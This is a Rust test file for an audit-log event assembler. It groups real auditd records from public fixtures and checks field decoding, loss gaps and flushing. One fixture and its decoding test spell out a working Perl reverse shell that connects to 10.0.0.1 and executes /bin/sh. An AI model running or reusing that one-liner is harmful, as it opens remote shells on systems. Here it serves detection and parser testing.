//! The audit module on real auditd output, interleaved events, loss, and a
//! property test over arbitrary input.
//!
//! The fixtures are quoted from public test data (the 0x1D of the ENRICHED
//! format, invisible there, is written `\x1d`):
//!
//! * `RHEL10_ENRICHED`: audit-userspace `auparse/test/auparse_test.enriched`,
//!   an `audit.log` of auditd 4.0.3 on kernel 6.12 in ENRICHED format (no
//!   `EOE` lines: auditd does not write them);
//! * laurel (threathunters-io/laurel) `src/testdata`: `record-execve.txt`,
//!   `record-login.txt`, `record-service-start.txt`,
//!   `record-perl-reverse-shell.txt`, `line-user-auth.txt` (a plugin's
//!   stream: with `EOE`);
//! * go-libaudit (elastic) `aucoalesce/testdata`: `rhel-7-linux-3.10.0.yaml`,
//!   `ubuntu-20.04.6-linux-5.15.0-1034-gcp.yaml` (netlink, raw format).
//!
//! A few lines are synthetic where no public sample was found; they say so.

use super::*;
use proptest::prelude::*;

const RHEL10_ENRICHED: &[&str] = &[
    "type=DAEMON_START msg=audit(1749816863.720:9625): op=start ver=4.0.3 format=enriched kernel=6.12.0-89.el10.x86_64 auid=4294967295 pid=7516 uid=0 ses=4294967295 subj=system_u:system_r:auditd_t:s0 res=success\x1dAUID=\"unset\" UID=\"root\"",
    "type=SYSCALL msg=audit(1749816863.720:823): arch=c000003e syscall=44 success=yes exit=60 a0=3 a1=7ffcd478b270 a2=3c a3=0 items=0 ppid=7515 pid=7516 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"auditd\" exe=\"/usr/sbin/auditd\" subj=system_u:system_r:auditd_t:s0 key=(null)\x1dARCH=x86_64 SYSCALL=sendto AUID=\"unset\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=PROCTITLE msg=audit(1749816863.720:823): proctitle=\"/usr/sbin/auditd\"",
    "type=CONFIG_CHANGE msg=audit(1749816863.720:824): op=set audit_pid=7516 old=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:auditd_t:s0 res=1\x1dAUID=\"unset\"",
    "type=SYSCALL msg=audit(1749816863.720:824): arch=c000003e syscall=44 success=yes exit=60 a0=3 a1=7ffcd4788f20 a2=3c a3=0 items=0 ppid=7515 pid=7516 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"auditd\" exe=\"/usr/sbin/auditd\" subj=system_u:system_r:auditd_t:s0 key=(null)\x1dARCH=x86_64 SYSCALL=sendto AUID=\"unset\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=PROCTITLE msg=audit(1749816863.720:824): proctitle=\"/usr/sbin/auditd\"",
    "type=SERVICE_START msg=audit(1749816863.722:825): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:init_t:s0 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'\x1dUID=\"root\" AUID=\"unset\"",
    "type=CONFIG_CHANGE msg=audit(1749816863.766:826): op=set audit_backlog_limit=8192 old=8192 auid=4294967295 ses=4294967295 subj=system_u:system_r:unconfined_service_t:s0 res=1\x1dAUID=\"unset\"",
    "type=SYSCALL msg=audit(1749816863.766:826): arch=c000003e syscall=44 success=yes exit=60 a0=3 a1=7ffde9a3b7d0 a2=3c a3=0 items=0 ppid=7522 pid=7547 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" subj=system_u:system_r:unconfined_service_t:s0 key=(null)\x1dARCH=x86_64 SYSCALL=sendto AUID=\"unset\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=PROCTITLE msg=audit(1749816863.766:826): proctitle=2F7362696E2F617564697463746C002D52002F6574632F61756469742F61756469742E72756C6573",
    // Serials 827–831 are left out of this excerpt.
    "type=CONFIG_CHANGE msg=audit(1749816863.767:832): auid=4294967295 ses=4294967295 subj=system_u:system_r:unconfined_service_t:s0 op=add_rule key=\"time-change\" list=4 res=1\x1dAUID=\"unset\"",
    "type=SYSCALL msg=audit(1749816863.767:832): arch=c000003e syscall=44 success=yes exit=1084 a0=3 a1=7ffde9a3b880 a2=43c a3=0 items=1 ppid=7522 pid=7547 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" subj=system_u:system_r:unconfined_service_t:s0 key=(null)\x1dARCH=x86_64 SYSCALL=sendto AUID=\"unset\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=SOCKADDR msg=audit(1749816863.767:832): saddr=100000000000000000000000\x1dSADDR={ saddr_fam=netlink nlnk-fam=16 nlnk-pid=0 }",
    "type=CWD msg=audit(1749816863.767:832): cwd=\"/\"",
    "type=PATH msg=audit(1749816863.767:832): item=0 name=\"/etc/\" inode=4194433 dev=fd:02 mode=040755 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:etc_t:s0 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"",
    "type=PROCTITLE msg=audit(1749816863.767:832): proctitle=2F7362696E2F617564697463746C002D52002F6574632F61756469742F61756469742E72756C6573",
];

/// laurel `record-execve.txt` (a plugin's stream: it ends with `EOE`).
const LAUREL_EXECVE: &[&str] = &[
    "node=work type=SYSCALL msg=audit(1615114232.375:15558): arch=c000003e syscall=59 success=yes exit=0 a0=63b29337fd18 a1=63b293387d58 a2=63b293375640 a3=fffffffffffff000 items=2 ppid=10883 pid=10884 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=1 comm=\"whoami\" exe=\"/usr/bin/whoami\" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID=\"user\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "node=work type=EXECVE msg=audit(1615114232.375:15558): argc=1 a0=\"whoami\"",
    "node=work type=CWD msg=audit(1615114232.375:15558): cwd=\"/home/user/tmp\"",
    "node=work type=PATH msg=audit(1615114232.375:15558): item=0 name=\"/usr/bin/whoami\" inode=261214 dev=ca:03 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0000000000000000 cap_fi=0000000000000000 cap_fe=0 cap_fver=0\x1dOUID=\"root\" OGID=\"root\"",
    "node=work type=PATH msg=audit(1615114232.375:15558): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=262146 dev=ca:03 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0000000000000000 cap_fi=0000000000000000 cap_fe=0 cap_fver=0\x1dOUID=\"root\" OGID=\"root\"",
    "node=work type=PROCTITLE msg=audit(1615114232.375:15558): proctitle=\"whoami\"",
    "node=work type=EOE msg=audit(1615114232.375:15558):",
];

/// laurel `record-login.txt` without its `EOE` line, as `audit.log` has it.
const LAUREL_LOGIN: &[&str] = &[
    "type=LOGIN msg=audit(1640027821.949:151316): pid=72605 uid=0 subj=unconfined old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses=325 res=1\x1dUID=\"root\" OLD-AUID=\"unset\" AUID=\"root\"",
    "type=SYSCALL msg=audit(1640027821.949:151316): arch=c00000b7 syscall=64 success=yes exit=1 a0=7 a1=ffffe505f9e0 a2=1 a3=ffff90795f10 items=0 ppid=519 pid=72605 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=325 comm=\"cron\" exe=\"/usr/sbin/cron\" subj=unconfined key=(null)\x1dARCH=aarch64 SYSCALL=write AUID=\"root\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
];

/// laurel `record-service-start.txt` without its `EOE` line: a user-space
/// message logged inside the sender's system call (LSM-stacking kernel).
const LAUREL_SERVICE_START: &[&str] = &[
    "type=SERVICE_START msg=audit(1661853391.646:4486226): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=? msg='unit=apt-daily comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'\x1dUID=\"root\" AUID=\"unset\"",
    "type=SYSCALL msg=audit(1661853391.646:4486226): arch=c000003e syscall=44 success=yes exit=120 a0=2e a1=7fff698a0190 a2=78 a3=0 items=0 ppid=0 pid=1 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" subj=? key=(null)\x1dARCH=x86_64 SYSCALL=sendto AUID=\"unset\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=SOCKADDR msg=audit(1661853391.646:4486226): saddr=100000000000000000000000\x1dSADDR={ fam=netlink nlnk-fam=16 nlnk-pid=0 }",
    "type=UNKNOWN[1420] msg=audit(1661853391.646:4486226): subj_apparmor=unconfined",
];

/// laurel `record-perl-reverse-shell.txt`: hex `EXECVE` argument and a
/// `PROCTITLE` the kernel truncated at 128 bytes.
const LAUREL_PERL: &[&str] = &[
    "type=SYSCALL msg=audit(1626611363.720:348501): arch=c000003e syscall=59 success=yes exit=0 a0=55c094deb5c0 a1=55c094dea770 a2=55c094dbf1b0 a3=fffffffffffff286 items=3 ppid=722076 pid=724395 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts3 ses=3 comm=\"perl\" exe=\"/usr/bin/perl\" subj==unconfined key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID=\"user\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=EXECVE msg=audit(1626611363.720:348501): argc=3 a0=\"perl\" a1=\"-e\" a2=75736520536F636B65743B24693D2231302E302E302E31223B24703D313233343B736F636B657428532C50465F494E45542C534F434B5F53545245414D2C67657470726F746F62796E616D6528227463702229293B696628636F6E6E65637428532C736F636B616464725F696E2824702C696E65745F61746F6E282469292929297B6F70656E28535444494E2C223E265322293B6F70656E285354444F55542C223E265322293B6F70656E285354444552522C223E265322293B6578656328222F62696E2F7368202D6922293B7D3B",
    "type=CWD msg=audit(1626611363.720:348501): cwd=\"/root\"",
    "type=PATH msg=audit(1626611363.720:348501): item=0 name=\"/usr/bin/perl\" inode=401923 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"",
    "type=PATH msg=audit(1626611363.720:348501): item=1 name=\"/usr/bin/perl\" inode=401923 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"",
    "type=PATH msg=audit(1626611363.720:348501): item=2 name=\"/lib64/ld-linux-x86-64.so.2\" inode=404797 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"",
    "type=PROCTITLE msg=audit(1626611363.720:348501): proctitle=7065726C002D650075736520536F636B65743B24693D2231302E302E302E31223B24703D313233343B736F636B657428532C50465F494E45542C534F434B5F53545245414D2C67657470726F746F62796E616D6528227463702229293B696628636F6E6E65637428532C736F636B616464725F696E2824702C696E65745F6174",
];

/// go-libaudit `rhel-7-linux-3.10.0.yaml` (raw format).
const RHEL7_USER_LOGIN: &str = "type=USER_LOGIN msg=audit(1493046015.752:42120): pid=18981 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=46.160.144.250 terminal=ssh res=failed'";

/// go-libaudit `ubuntu-20.04.6-linux-5.15.0-1034-gcp.yaml` (raw format).
const UBUNTU_DASH: &[&str] = &[
    "type=SYSCALL msg=audit(1686666551.525:28860764): arch=c000003e syscall=59 success=yes exit=0 a0=55d85d6719d0 a1=55d85d69c970 a2=55d85d720450 a3=8 items=2 ppid=2380071 pid=2380168 auid=1005 uid=1005 gid=1006 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1456 comm=\"dash\" exe=\"/usr/bin/dash\" subj=unconfined key=\"susp_shell\"",
    "type=EXECVE msg=audit(1686666551.525:28860764): argc=2 a0=\"dash\" a1=\"-p\"",
    "type=PATH msg=audit(1686666551.525:28860764): item=0 name=\"/usr/bin/dash\" inode=1593 dev=08:01 mode=0106755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PATH msg=audit(1686666551.525:28860764): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=4382 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PROCTITLE msg=audit(1686666551.525:28860764): proctitle=64617368002D70",
];

fn push_all(assembler: &mut EventAssembler, lines: &[&str]) -> Vec<Assembled> {
    lines
        .iter()
        .flat_map(|line| assembler.push(line.as_bytes()))
        .collect()
}

fn events(out: &[Assembled]) -> Vec<&CompletedEvent> {
    out.iter()
        .filter_map(|a| match a {
            Assembled::Event(e) => Some(e),
            _ => None,
        })
        .collect()
}

fn losses(out: &[Assembled]) -> Vec<&LossReport> {
    out.iter()
        .filter_map(|a| match a {
            Assembled::Loss(l) => Some(l),
            _ => None,
        })
        .collect()
}

fn field<'a>(fields: &'a [(String, Vec<u8>)], name: &str) -> Option<&'a str> {
    fields
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| std::str::from_utf8(v).unwrap())
}

fn lines_of(event: &CompletedEvent) -> Vec<String> {
    event
        .lines()
        .map(|l| String::from_utf8(l.to_vec()).unwrap())
        .collect()
}

#[test]
fn rhel10_enriched_audit_log_groups_by_proctitle_and_type() {
    let mut a = EventAssembler::default();
    let mut out = push_all(&mut a, RHEL10_ENRICHED);
    assert_eq!(
        a.open_events(),
        0,
        "every event here ends with PROCTITLE or is standalone"
    );
    out.extend(a.finish());
    let got: Vec<_> = events(&out)
        .iter()
        .map(|e| (e.serial(), e.record_count(), e.completion().as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (9625, 1, "standalone"),
            (823, 2, "proctitle"),
            (824, 3, "proctitle"),
            (825, 1, "standalone"),
            (826, 3, "proctitle"),
            (832, 6, "proctitle"),
        ]
    );
    // The lines left out of the excerpt are a gap; DAEMON_START's own
    // serial (9625) is not taken for the kernel's.
    assert_eq!(
        losses(&out),
        [&LossReport::Gap(Gap {
            node: None,
            after_serial: 826,
            before_serial: 832,
            missing: 5
        })]
    );

    let last = events(&out)[5];
    assert_eq!(lines_of(last), RHEL10_ENRICHED[10..]);
    assert_eq!(
        last.body(),
        RHEL10_ENRICHED[10..].join("\n").as_bytes(),
        "byte-exact, joined with \\n"
    );
    let f = last.fields();
    assert_eq!(field(&f, "audit_time"), Some("1749816863.767"));
    assert_eq!(field(&f, "audit_serial"), Some("832"));
    assert_eq!(field(&f, "audit_node"), None);
    assert_eq!(
        field(&f, "audit_types"),
        Some("CONFIG_CHANGE,SYSCALL,SOCKADDR,CWD,PATH,PROCTITLE")
    );
    assert_eq!(field(&f, "audit_records"), Some("6"));
    assert_eq!(field(&f, "audit_completion"), Some("proctitle"));
    assert_eq!(field(&f, "audit_continues"), None);
    assert_eq!(field(&f, "CONFIG_CHANGE.op"), Some("add_rule"));
    assert_eq!(field(&f, "CONFIG_CHANGE.key"), Some("time-change"));
    assert_eq!(field(&f, "CONFIG_CHANGE.AUID"), Some("unset"));
    assert_eq!(field(&f, "SYSCALL.syscall"), Some("44"));
    assert_eq!(field(&f, "SYSCALL.SYSCALL"), Some("sendto"));
    assert_eq!(field(&f, "SYSCALL.key"), Some("(null)"));
    assert_eq!(field(&f, "SYSCALL.key.decoded"), None);
    assert_eq!(
        field(&f, "SOCKADDR.saddr"),
        Some("100000000000000000000000")
    );
    assert_eq!(
        field(&f, "SOCKADDR.saddr.decoded"),
        None,
        "a sockaddr is binary, not text"
    );
    assert_eq!(
        field(&f, "SOCKADDR.SADDR"),
        Some("{ saddr_fam=netlink nlnk-fam=16 nlnk-pid=0 }")
    );
    assert_eq!(field(&f, "CWD.cwd"), Some("/"));
    assert_eq!(field(&f, "PATH.name"), Some("/etc/"));
    assert_eq!(field(&f, "PATH.OUID"), Some("root"));
    assert_eq!(
        field(&f, "PROCTITLE.proctitle"),
        Some("2F7362696E2F617564697463746C002D52002F6574632F61756469742F61756469742E72756C6573")
    );
    assert_eq!(
        field(&f, "PROCTITLE.proctitle.decoded"),
        Some("/sbin/auditctl -R /etc/audit/audit.rules")
    );
    assert!(f.iter().all(|(k, _)| k.len() <= MAX_FIELD_NAME_LEN));

    let service = events(&out)[3].fields();
    assert_eq!(
        field(&service, "SERVICE_START.unit"),
        Some("auditd"),
        "a field of msg='…'"
    );
    assert_eq!(field(&service, "SERVICE_START.comm"), Some("systemd"));
    assert_eq!(field(&service, "SERVICE_START.res"), Some("success"));
    assert_eq!(field(&service, "SERVICE_START.AUID"), Some("unset"));
}

#[test]
fn interleaved_events_keep_their_own_records_in_order() {
    // Two real events (826 and 832 above) with their records interleaved,
    // as records of different CPUs are.
    let (a, b) = (&RHEL10_ENRICHED[7..10], &RHEL10_ENRICHED[10..]);
    let mixed = [b[0], a[0], b[1], b[2], a[1], b[3], b[4], a[2], b[5]];
    let mut assembler = EventAssembler::default();
    let out = push_all(&mut assembler, &mixed);
    let done = events(&out);
    assert_eq!(done.len(), 2);
    assert_eq!(done[0].serial(), 826);
    assert_eq!(lines_of(done[0]), a);
    assert_eq!(done[1].serial(), 832);
    assert_eq!(lines_of(done[1]), b);
    assert!(
        done.iter()
            .all(|e| e.completion() == Completion::FinalRecord && e.completion().is_complete())
    );
    assert!(losses(&out).is_empty());
}

#[test]
fn fields_of_real_execve_events() {
    let mut a = EventAssembler::default();
    let mut out = push_all(&mut a, LAUREL_PERL);
    // The first PROCTITLE event of a stream waits for the next line (an
    // EOE?); none comes here.
    out.extend(a.flush(Flush::All));
    let done = events(&out);
    assert_eq!(done.len(), 1);
    let f = done[0].fields();
    assert_eq!(
        field(&f, "audit_types"),
        Some("SYSCALL,EXECVE,CWD,PATH,PATH,PATH,PROCTITLE")
    );
    assert_eq!(field(&f, "SYSCALL.subj"), Some("=unconfined"));
    assert_eq!(
        field(&f, "SYSCALL.a0.decoded"),
        None,
        "a SYSCALL argument is a number"
    );
    assert_eq!(field(&f, "EXECVE.a1"), Some("-e"));
    assert_eq!(
        field(&f, "EXECVE.a2.decoded"),
        Some(
            "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"
        )
    );
    assert_eq!(field(&f, "PATH[0].name"), Some("/usr/bin/perl"));
    assert_eq!(
        field(&f, "PATH[2].name"),
        Some("/lib64/ld-linux-x86-64.so.2")
    );
    assert_eq!(field(&f, "PATH[2].OUID"), Some("root"));
    assert_eq!(
        field(&f, "PATH.name"),
        None,
        "a repeated type is always numbered"
    );
    assert_eq!(
        field(&f, "PROCTITLE.proctitle.decoded"),
        Some(
            "perl -e use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_at"
        )
    );
    let out = push_all(&mut a, UBUNTU_DASH);
    let dash = events(&out)[0].fields();
    assert_eq!(field(&dash, "SYSCALL.key"), Some("susp_shell"));
    assert_eq!(field(&dash, "EXECVE.a1"), Some("-p"));
    assert_eq!(field(&dash, "PROCTITLE.proctitle.decoded"), Some("dash -p"));
}

#[test]
fn a_stream_with_eoe_ends_events_with_eoe() {
    let mut a = EventAssembler::default();
    // The first event of the stream is held at PROCTITLE: its EOE, which
    // comes next, joins it.
    let out = push_all(&mut a, LAUREL_EXECVE);
    let done = events(&out);
    assert_eq!(done.len(), 1);
    assert_eq!(
        (done[0].record_count(), done[0].completion()),
        (7, Completion::EndOfEvent)
    );
    assert_eq!(done[0].node(), Some("work"));
    assert_eq!(field(&done[0].fields(), "audit_node"), Some("work"));
    assert_eq!(field(&done[0].fields(), "SYSCALL.AUID"), Some("user"));
    assert_eq!(field(&done[0].fields(), "audit_continues"), None);
    // From now on PROCTITLE does not end an event; EOE does.
    let mut perl: Vec<&str> = LAUREL_PERL.to_vec();
    let eoe = "type=EOE msg=audit(1626611363.720:348501): ";
    assert!(
        push_all(&mut a, &perl)
            .iter()
            .all(|o| !matches!(o, Assembled::Event(_)))
    );
    perl.push(eoe);
    let out = a.push(eoe.as_bytes());
    let done = events(&out);
    assert_eq!(done.len(), 1);
    assert_eq!(
        (done[0].record_count(), done[0].completion()),
        (8, Completion::EndOfEvent)
    );
    assert_eq!(lines_of(done[0]), perl);
}

#[test]
fn an_eoe_read_after_its_proctitle_joins_its_event() {
    // A read that ends right after PROCTITLE; the EOE comes with the next.
    let (up_to_proctitle, eoe) = LAUREL_EXECVE.split_at(6);
    let mut a = EventAssembler::default();
    let mut out = push_all(&mut a, up_to_proctitle);
    out.extend(push_all(&mut a, eoe));
    let done = events(&out);
    assert_eq!(done.len(), 1, "one event, not an EOE of its own");
    assert_eq!(lines_of(done[0]), LAUREL_EXECVE);
    assert_eq!(done[0].completion(), Completion::EndOfEvent);
    assert!(!done[0].continues_earlier());
    assert!(losses(&out).is_empty());
}

#[test]
fn without_eoe_only_the_first_proctitle_event_waits_for_the_next_line() {
    let mut a = EventAssembler::default();
    // The stream has shown nothing of EOE yet: the event is complete but
    // held until the next line says whether its EOE follows.
    let out = push_all(&mut a, UBUNTU_DASH);
    assert!(events(&out).is_empty());
    // Not an EOE: the held event leaves first, then the new line's event.
    let out = a.push(RHEL7_USER_LOGIN.as_bytes());
    let done = events(&out);
    assert_eq!(
        done.iter()
            .map(|e| (e.serial(), e.completion()))
            .collect::<Vec<_>>(),
        [
            (28860764, Completion::FinalRecord),
            (42120, Completion::Standalone)
        ]
    );
    assert_eq!(lines_of(done[0]), UBUNTU_DASH);
    // The stream has no EOE after PROCTITLE: from now on PROCTITLE ends an
    // event at once, as in audit.log.
    let out = push_all(&mut a, LAUREL_PERL);
    assert_eq!(
        events(&out)
            .iter()
            .map(|e| (e.serial(), e.completion()))
            .collect::<Vec<_>>(),
        [(348501, Completion::FinalRecord)]
    );
    assert_eq!(a.open_events(), 0);
    // An EOE after all, once its event is written: kept, as a continuation
    // (no new serial); from then on EOE alone ends events.
    let out = a.push(b"type=EOE msg=audit(1626611363.720:348501): ");
    let done = events(&out);
    assert_eq!(
        (
            done.len(),
            done[0].completion(),
            done[0].continues_earlier()
        ),
        (1, Completion::EndOfEvent, true)
    );
    assert_eq!(field(&done[0].fields(), "audit_continues"), Some("true"));
    assert!(
        losses(&out).is_empty(),
        "a continuation is not a new serial"
    );
    assert!(events(&push_all(&mut a, UBUNTU_DASH)).is_empty());
    assert_eq!(a.open_events(), 1, "dash waits for its EOE");
}

#[test]
fn a_held_proctitle_event_leaves_after_an_idle_period() {
    let mut a = EventAssembler::default();
    push_all(&mut a, UBUNTU_DASH);
    assert!(
        events(&a.flush(Flush::Idle)).is_empty(),
        "its PROCTITLE came in this period"
    );
    let out = a.flush(Flush::Idle);
    let done = events(&out);
    assert_eq!(done.len(), 1);
    assert_eq!(done[0].completion(), Completion::FinalRecord);
    assert_eq!(lines_of(done[0]), UBUNTU_DASH);
    // No EOE came within a period: the next PROCTITLE ends its event at once.
    assert_eq!(events(&push_all(&mut a, LAUREL_PERL)).len(), 1);
}

#[test]
fn events_without_an_end_complete_when_the_stream_moves_on() {
    let mut a = EventAssembler::default();
    assert!(
        push_all(&mut a, LAUREL_LOGIN).is_empty(),
        "LOGIN + SYSCALL has no end record"
    );
    // 1.9 s later (stream time): still open.
    let soon = "type=USER_ACCT msg=audit(1640027823.850:151317): pid=1 uid=0 auid=0 ses=325 msg='op=PAM:accounting acct=\"root\" res=success'";
    let out = a.push(soon.as_bytes());
    assert_eq!(events(&out).len(), 1, "only the standalone USER_ACCT");
    assert_eq!(a.open_events(), 1);
    // 2 s after its last record: idle.
    let later = "type=USER_END msg=audit(1640027823.949:151318): pid=1 uid=0 auid=0 ses=325 msg='op=PAM:session_close acct=\"root\" res=success'";
    let out = a.push(later.as_bytes());
    let done = events(&out);
    assert_eq!(
        done.iter().map(|e| e.serial()).collect::<Vec<_>>(),
        [151318, 151316]
    );
    assert_eq!(done[1].completion(), Completion::Idle);
    assert!(!done[1].completion().is_complete() && !done[1].completion().is_forced());
    assert_eq!(field(&done[1].fields(), "LOGIN.OLD-AUID"), Some("unset"));
    assert_eq!(a.open_events(), 0);
}

#[test]
fn an_old_timestamp_does_not_make_an_event_idle_on_arrival() {
    // A system call that blocked: stamped at entry (long ago), written at
    // exit. Synthetic lines in the kernel's format.
    let mut a = EventAssembler::default();
    a.push(b"type=SYSCALL msg=audit(1700000100.000:20): arch=c000003e syscall=1 success=yes exit=1 items=0 pid=7 comm=\"w\" key=(null)");
    let out = push_all(
        &mut a,
        &[
            "type=SYSCALL msg=audit(1700000040.000:21): arch=c000003e syscall=0 success=yes exit=1 items=1 pid=8 comm=\"r\" key=\"slow\"",
            "type=CWD msg=audit(1700000040.000:21): cwd=\"/\"",
        ],
    );
    assert!(
        events(&out).is_empty(),
        "the late event was just seen: not idle"
    );
    let out = a.push(b"type=SYSCALL msg=audit(1700000102.000:22): arch=c000003e syscall=1 success=yes exit=1 items=0 pid=7 comm=\"w\" key=(null)");
    let done: Vec<_> = events(&out)
        .iter()
        .map(|e| (e.serial(), e.record_count()))
        .collect();
    assert_eq!(done, [(20, 1), (21, 2)]);
}

#[test]
fn flush_idle_completes_what_got_nothing_for_a_whole_period() {
    let mut a = EventAssembler::default();
    push_all(&mut a, &LAUREL_LOGIN[..1]);
    assert!(
        events(&a.flush(Flush::Idle)).is_empty(),
        "it had a record in this period"
    );
    a.push(LAUREL_LOGIN[1].as_bytes());
    assert!(events(&a.flush(Flush::Idle)).is_empty(), "and in this one");
    let out = a.flush(Flush::Idle);
    let done = events(&out);
    assert_eq!(
        (done.len(), done[0].record_count(), done[0].completion()),
        (1, 2, Completion::Flushed)
    );
    assert_eq!(field(&done[0].fields(), "audit_completion"), Some("flush"));
    push_all(&mut a, &UBUNTU_DASH[..2]);
    let out = a.flush(Flush::All);
    assert_eq!(events(&out).len(), 1);
    assert_eq!(a.open_events(), 0);
}

#[test]
fn a_user_message_inside_a_system_call_continues_as_one() {
    let mut a = EventAssembler::default();
    let mut out = push_all(&mut a, LAUREL_SERVICE_START);
    out.extend(a.finish());
    let done = events(&out);
    assert_eq!(done.len(), 2);
    assert_eq!(
        (done[0].record_count(), done[0].completion()),
        (1, Completion::Standalone)
    );
    assert_eq!(
        (done[1].record_count(), done[1].completion()),
        (3, Completion::Flushed)
    );
    assert!(!done[0].continues_earlier() && done[1].continues_earlier());
    let f = done[1].fields();
    assert_eq!(
        field(&f, "audit_types"),
        Some("SYSCALL,SOCKADDR,UNKNOWN[1420]")
    );
    assert_eq!(field(&f, "UNKNOWN[1420].subj_apparmor"), Some("unconfined"));
    assert!(losses(&out).is_empty());
}

#[test]
fn standalone_user_messages_are_events_of_their_own() {
    let mut a = EventAssembler::default();
    let out = a.push(RHEL7_USER_LOGIN.as_bytes());
    let done = events(&out);
    assert_eq!(
        (done.len(), done[0].completion()),
        (1, Completion::Standalone)
    );
    let f = done[0].fields();
    assert_eq!(field(&f, "audit_types"), Some("USER_LOGIN"));
    assert_eq!(field(&f, "USER_LOGIN.acct"), Some("root"));
    assert_eq!(field(&f, "USER_LOGIN.addr"), Some("46.160.144.250"));
    assert_eq!(field(&f, "USER_LOGIN.res"), Some("failed"));
    // laurel `line-user-auth.txt`: AppArmor's subject has a space.
    let out = a.push(b"type=USER_AUTH msg=audit(1670424651.175:10465161): pid=1932610 uid=0 auid=4294967295 ses=4294967295 subj=/usr/sbin/cupsd (enforce) msg='op=PAM:authentication grantors=pam_permit acct=\"user\" exe=\"/usr/sbin/cupsd\" hostname=localhost addr=::1 terminal=cups res=success'\x1dUID=\"root\" AUID=\"unset\"");
    let f = events(&out)[0].fields();
    assert_eq!(field(&f, "USER_AUTH.subj"), Some("/usr/sbin/cupsd"));
    assert_eq!(field(&f, "USER_AUTH.grantors"), Some("pam_permit"));
    // USER_CMD with its command in hex (a public audit.log excerpt).
